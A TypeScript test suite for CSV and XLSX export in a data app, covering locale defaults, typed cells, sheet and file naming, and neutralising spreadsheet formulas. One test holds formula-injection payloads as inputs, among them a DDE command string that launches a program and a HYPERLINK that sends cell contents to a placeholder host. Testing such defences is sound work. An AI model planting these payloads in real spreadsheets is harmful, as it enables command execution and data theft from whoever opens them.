/**
 * Files out that Excel opens right: CSV with the delimiter, decimal mark and
 * byte-order mark a language's Excel expects, XLSX with typed cells, and
 * file names that say what and when. Read back on the real engine.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { enginePath, quoteLiteral, type Engine } from '../../src/lib/engine';
import { ingestFile, type IngestDeps } from '../../src/lib/ingest';
import { parseWorkbook } from '../../src/lib/ingest/xlsx-parse';
import {
  csvDefaultsFor,
  ExportError,
  exportCsv,
  exportFileName,
  exportXlsx,
  fetchRows,
  runStatement,
  tableToCsv,
  xlsxSheetName,
  XLSX_MAX_ROWS,
  type CsvOptions,
} from '../../src/lib/results';
import { blobOf, nodeIngestDeps, rows, startNodeEngine } from './helpers/node-engine';

let engine: Engine;
let deps: IngestDeps;

beforeAll(async () => {
  engine = await startNodeEngine();
  deps = await nodeIngestDeps();
});

afterAll(async () => {
  await engine.terminate();
});

/** Values of every kind a result holds, NULLs and text that needs quoting included. */
const MIXED = `SELECT * FROM (VALUES
  (1, 'Perú', 1234.5::DOUBLE, 123456789012.345::DECIMAL(18,3), DATE '2012-01-31', TIMESTAMP '2012-01-31 13:45:10', true, 'a;b, "c"'),
  (2, 'São Paulo', -0.25::DOUBLE, NULL, NULL, NULL, false, NULL),
  (3, 'Bogotá', NULL, 0.5::DECIMAL(18,3), DATE '1999-12-31', TIMESTAMP '1999-12-31 00:00:00', NULL, '=1+1')
) t(id, city, amount, exact, day, stamp, ok, note) ORDER BY id`;

describe('CSV export', () => {
  let counter = 0;
  /** The same columns, as comparable values, whatever the source's types. */
  const PROJECTION = 'id::INTEGER AS id, city, amount::DOUBLE AS amount, exact::DOUBLE AS exact, day::DATE AS day, stamp::TIMESTAMP AS stamp, ok::BOOLEAN AS ok, note';

  /** Writes bytes under the engine's directory and reads them with read_csv and these options. */
  async function readBack(bytes: Uint8Array, options: string): Promise<Record<string, unknown>[]> {
    counter += 1;
    const path = enginePath(`read_back_${counter}.csv`);
    await engine.registerFileBuffer(path, bytes);
    try {
      const types = await rows(engine, `SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM read_csv(${quoteLiteral(path)}, ${options}))`);
      // Read as numbers, not as text that happens to compare equal.
      expect(types.filter((t) => ['amount', 'exact'].includes(String(t.column_name))).map((t) => t.column_type)).toEqual(['DOUBLE', 'DOUBLE']);
      return await rows(engine, `SELECT ${PROJECTION} FROM read_csv(${quoteLiteral(path)}, ${options}) ORDER BY id`);
    } finally {
      await engine.dropFile(path);
    }
  }

  it("writes what Spanish Excel expects: a byte-order mark, ';' and decimal commas that read back to the same values", async () => {
    const result = await runStatement(engine, MIXED);
    const options = csvDefaultsFor('es-419');
    expect(options).toEqual({ delimiter: ';', decimal: ',', bom: true });
    const bytes = await exportCsv(engine, result, options);
    expect(Array.from(bytes.subarray(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes.subarray(3));
    expect(text.split('\n')[0]).toBe('id;city;amount;exact;day;stamp;ok;note');
    expect(text.split('\n')[1]).toBe('1;Perú;1234,5;123456789012,345;2012-01-31;2012-01-31 13:45:10;true;"a;b, ""c"""');

    const back = await readBack(bytes, "delim=';', decimal_separator=','");
    // Every value reads back the same, except the formula-like note, which is written as text ('=1+1).
    const original = await rows(engine, `SELECT ${PROJECTION} FROM ${result.table} ORDER BY id`);
    expect(back).toEqual(original.map((row) => (row.note === '=1+1' ? { ...row, note: "'=1+1" } : row)));
    expect(back[0]).toMatchObject({ amount: 1234.5, exact: 123456789012.345 });
  });

  it('writes plain CSV for English, and tabs when asked', async () => {
    const result = await runStatement(engine, "SELECT 1.5::DOUBLE AS x, 'a,b' AS s");
    expect(csvDefaultsFor('en')).toEqual({ delimiter: ',', decimal: '.', bom: false });
    expect(new TextDecoder().decode(await exportCsv(engine, result, csvDefaultsFor('en')))).toBe('x,s\n1.5,"a,b"\n');
    const tabs: CsvOptions = { delimiter: '\t', decimal: ',', bom: false };
    const bytes = await tableToCsv(engine, result.table!, tabs);
    expect(bytes[0]).toBe(0x78); // "x": no byte-order mark
    expect(new TextDecoder().decode(bytes)).toBe('x\ts\n1,5\ta,b\n');
  });

  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"ver")', `"'=HYPERLINK(""http://x.example/?""&A1,""ver"")"`],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['+cmd|\' /C calc\'!A0', "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['\t=1+1', "'\t=1+1"],
    ['-12', '-12'],
    ['+57 300 1234567', '+57 300 1234567'],
    ['Bogotá', 'Bogotá'],
    ['a=b', 'a=b'],
  ])('writes the text %j so that no spreadsheet runs it as a formula', async (text, written) => {
    const result = await runStatement(engine, `SELECT ${quoteLiteral(text)} AS "=header", 2.5::DOUBLE AS n`);
    const csv = new TextDecoder().decode(await exportCsv(engine, result, { delimiter: ';', decimal: ',', bom: false }));
    expect(csv).toBe(`'=header;n\n${written};2,5\n`);
  });

  it.each([
    ['en', ',', '.', false],
    ['en-GB', ',', '.', false],
    ['es-419', ';', ',', true],
    ['es', ';', ',', true],
    ['pt-BR', ';', ',', true],
    ['pt_PT', ';', ',', true],
    ['fr', ';', ',', true],
    ['de-DE', ';', ',', true],
    ['ja', ',', '.', false],
    ['not a locale', ',', '.', false],
  ] as const)('defaults for %s: %s, decimal %s, BOM %s', (locale, delimiter, decimal, bom) => {
    expect(csvDefaultsFor(locale)).toEqual({ delimiter, decimal, bom });
  });
});

describe('XLSX export', () => {
  it('writes typed cells that read back as the same values and types', async () => {
    const result = await runStatement(
      engine,
      `SELECT id, city, amount, exact, day, stamp, ok, note, 9007199254740993::BIGINT AS huge, 42::BIGINT AS small FROM (${MIXED})`,
    );
    const { bytes, clippedCells } = await exportXlsx(engine, result, { sheetName: 'Resultado: 1/2' });
    expect(clippedCells).toBe(0);
    const [sheet] = await parseWorkbook(bytes);
    expect(sheet?.name).toBe('Resultado 1 2');
    expect(sheet?.rows[0]).toEqual(['id', 'city', 'amount', 'exact', 'day', 'stamp', 'ok', 'note', 'huge', 'small']);
    expect(sheet?.rows[1]).toEqual([
      1,
      'Perú',
      1234.5,
      123456789012.345,
      new Date(Date.UTC(2012, 0, 31)),
      new Date(Date.UTC(2012, 0, 31, 13, 45, 10)),
      true,
      'a;b, "c"',
      // Past Excel's 15 digits: the exact figure, as text.
      '9007199254740993',
      42,
    ]);
    expect(sheet?.rows[3]?.[7]).toBe('=1+1'); // text stays text, never a formula

    // Loaded back with the app's own reader: numbers, dates and booleans keep their types.
    const loaded = await ingestFile(engine, deps, { fileName: 'export.xlsx', file: blobOf(bytes), existingTables: [] });
    const described = await rows(engine, `SELECT column_name AS name, data_type AS type FROM duckdb_columns() WHERE table_name = 'export' ORDER BY column_index`);
    expect(described.map((c) => `${c.name} ${c.type}`)).toEqual([
      'id BIGINT',
      'city VARCHAR',
      'amount DOUBLE',
      'exact DOUBLE',
      'day DATE',
      'stamp TIMESTAMP_MS', // the workbook reader's own date-time type
      'ok BOOLEAN',
      'note VARCHAR',
      'huge VARCHAR',
      'small BIGINT',
    ]);
    expect(loaded.tables[0]?.headerRow).toBe(1);
    const back = await runStatement(engine, 'SELECT id, city, amount, exact, day, stamp, ok, note, huge, small FROM export ORDER BY id');
    expect(await fetchRows(engine, back, 0, 10)).toEqual(await fetchRows(engine, await runStatement(engine, `SELECT id, city, amount, exact::DOUBLE AS exact, day, stamp, ok, note, huge::VARCHAR AS huge, small FROM ${result.table} ORDER BY id`), 0, 10));
  });

  it('refuses more rows than a sheet holds, with a code', async () => {
    const result = await runStatement(engine, `SELECT range AS i FROM range(${XLSX_MAX_ROWS + 1})`);
    const error = await exportXlsx(engine, result).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(ExportError);
    expect((error as ExportError).problem).toEqual({ code: 'xlsxRows', params: { rows: XLSX_MAX_ROWS + 1, limit: XLSX_MAX_ROWS } });
  });

  it('cuts text longer than a cell holds, and counts the cells cut', async () => {
    const result = await runStatement(engine, "SELECT repeat('x', 40000) AS long, 'short' AS short");
    const { bytes, clippedCells } = await exportXlsx(engine, result);
    expect(clippedCells).toBe(1);
    const [sheet] = await parseWorkbook(bytes);
    expect(String(sheet?.rows[1]?.[0]).length).toBe(32_767);
  });

  it.each([
    ['Homicidios', 'Homicidios'],
    ['a[b]c:d*e?f/g\\h', 'a b c d e f g h'],
    ["'quoted'", 'quoted'],
    ['', 'Sheet1'],
    ['x'.repeat(40), 'x'.repeat(31)],
  ])('names a sheet %j as Excel allows: %j', (name, sheet) => {
    expect(xlsxSheetName(name)).toBe(sheet);
  });
});

describe('exported file names', () => {
  const day = new Date(2024, 4, 31, 23, 59); // local time: the day the person sees
  it.each([
    ['Homicidios por país', 'csv', 'Homicidios por país_2024-05-31.csv'],
    ['ventas', '.XLSX', 'ventas_2024-05-31.xlsx'],
    ['a/b\\c:d*e?"f"<g>|h', 'csv', 'a_b_c_d_e_f_g_h_2024-05-31.csv'],
    ['  many   spaces\tand\ntabs  ', 'csv', 'many spaces and tabs_2024-05-31.csv'],
    ['...hidden.', 'csv', 'hidden_2024-05-31.csv'],
    ['', 'parquet', 'atalaya_2024-05-31.parquet'],
    ['///', 'csv', 'atalaya_2024-05-31.csv'],
    ['CON', 'csv', 'CON__2024-05-31.csv'],
    ['é'.repeat(150), 'csv', `${'é'.repeat(100)}_2024-05-31.csv`],
  ])('%j as .%s → %j', (base, extension, name) => {
    expect(exportFileName(base, day, extension)).toBe(name);
  });
});
